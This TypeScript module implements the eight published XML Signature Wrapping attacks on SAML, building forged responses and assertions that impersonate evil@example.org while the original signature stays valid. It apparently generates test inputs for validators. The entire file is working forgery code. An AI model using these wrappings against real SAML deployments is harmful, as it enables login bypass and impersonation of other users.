import { DOMParser, XMLSerializer } from "@xmldom/xmldom";

const EVIL = "evil@example.org";

/**
 * The eight ways of wrapping a signed response around a forged one (Somorovsky and others, “On Breaking SAML”, USENIX
 * Security 2012): the signature of the signed element stays valid, and a parser that looks elsewhere reads the forged
 * one.
 */
export const WRAPPINGS: Record<string, (xml: string) => string> = {
  "XSW1: a copy of the answer inside the signature": (xml) =>
    wrapResponse(xml, (evil, original) => signatureOf(evil).appendChild(original)),
  "XSW2: the signed answer beside its signature": (xml) =>
    wrapResponse(xml, (evil, original) => evil.insertBefore(original, signatureOf(evil))),
  "XSW3: another assertion before the signed one": (xml) =>
    wrapAssertion(xml, ({ evil, original, root }) => root.insertBefore(evil, original)),
  "XSW4: the signed assertion inside another one": (xml) =>
    wrapAssertion(xml, ({ evil, original, root }) => {
      root.replaceChild(evil, original);
      evil.appendChild(original);
    }),
  "XSW5: the signed assertion at the end, its signature in another": (xml) =>
    wrapAssertion(xml, ({ evil, original, root }) => {
      const signature = signatureOf(original);
      root.replaceChild(evil, original);
      evil.appendChild(signature);
      root.appendChild(original);
    }),
  "XSW6: the signed assertion inside the signature of another": (xml) =>
    wrapAssertion(xml, ({ evil, original, root }) => {
      const signature = signatureOf(original);
      root.replaceChild(evil, original);
      evil.appendChild(signature);
      signature.appendChild(original);
    }),
  "XSW7: another assertion in an extension": (xml) =>
    wrapAssertion(xml, ({ evil, original, root }) => {
      const extensions = root.ownerDocument!.createElementNS(
        "urn:oasis:names:tc:SAML:2.0:protocol",
        "samlp:Extensions",
      );
      extensions.appendChild(evil);
      root.insertBefore(extensions, original);
    }),
  "XSW8: the signed assertion in an object of the signature": (xml) =>
    wrapAssertion(xml, ({ evil, original, root }) => {
      const signature = signatureOf(original);
      root.replaceChild(evil, original);
      evil.appendChild(signature);
      const object = root.ownerDocument!.createElementNS("http://www.w3.org/2000/09/xmldsig#", "Object");
      object.appendChild(original);
      signature.appendChild(object);
    }),
};

function wrapResponse(xml: string, wrap: (evil: Element, original: Element) => void): string {
  const document = parse(xml);
  const evil = document.documentElement;
  const original = evil.cloneNode(true) as Element;
  original.removeChild(signatureOf(original));
  evil.setAttribute("ID", "_evil");
  poison(evil);
  wrap(evil, original);
  return serialize(document);
}

function wrapAssertion(
  xml: string,
  wrap: (parts: { evil: Element; original: Element; root: Element }) => void,
): string {
  const document = parse(xml);
  const root = document.documentElement;
  const original = root.getElementsByTagNameNS("*", "Assertion")[0]!;
  const evil = original.cloneNode(true) as Element;
  evil.removeChild(signatureOf(evil));
  evil.setAttribute("ID", "_evil");
  poison(evil);
  wrap({ evil, original, root });
  return serialize(document);
}

/** Replaces the user in every attribute value with an email address. */
function poison(element: Element): void {
  for (const value of Array.from(element.getElementsByTagNameNS("*", "AttributeValue")))
    if (value.textContent?.includes("@")) value.textContent = EVIL;
}

function signatureOf(element: Element): Element {
  return Array.from(element.childNodes).find(
    (node): node is Element => (node as Element).localName === "Signature",
  )!;
}

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, "text/xml") as unknown as Document;
}

function serialize(document: Document): string {
  return new XMLSerializer().serializeToString(document);
}
